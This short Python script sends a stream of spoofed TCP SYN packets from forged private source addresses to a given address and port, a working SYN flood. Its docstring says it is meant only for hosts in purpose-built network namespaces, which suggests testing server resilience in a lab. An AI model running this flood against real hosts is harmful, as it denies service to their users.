"""Sends SYNs that nobody completes, from many forged sources in turn, until its standard input ends; prints how many.

usage: syn-flood.py ADDRESS PORT SOURCES RATE    (sources 10.79.0.1 and up; SYNs a second; needs root)
For hosts in network namespaces made for the purpose only.
"""
import random
import select
import socket
import struct
import sys
import time

BATCH = 10  # few enough at a time that they do not hold up a core for long
SLEEP = 20e-6
PORTS = 8


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, source_port, target, port):
    def tcp(total):
        return struct.pack("!HHLLBBHHH", source_port, port, 1, 0, 80, 2, 64240, total, 0)

    pseudo = source + target + struct.pack("!BBH", 0, 6, 20)
    ip = struct.pack("!BBHHHBBH4s4s", 69, 0, 40, 0, 0, 64, 6, 0, source, target)
    return ip + tcp(checksum(pseudo + tcp(0)))


def main(address, port, sources, rate):
    target = socket.inet_aton(address)
    frames = [
        syn(struct.pack("!BBH", 10, 79, source), own, target, port)
        for own in random.sample(range(1024, 65535), PORTS)
        for source in range(1, sources + 1)
    ]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    start = time.monotonic()
    # It sleeps between any two batches, even when it is late: a lower rate rather than a starved core.
    while not select.select([sys.stdin], [], [], max(SLEEP, start + sent / rate - time.monotonic()))[0]:
        for _ in range(BATCH):
            raw.sendto(frames[sent % len(frames)], (address, 0))
            sent += 1
    print(sent)


main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]))
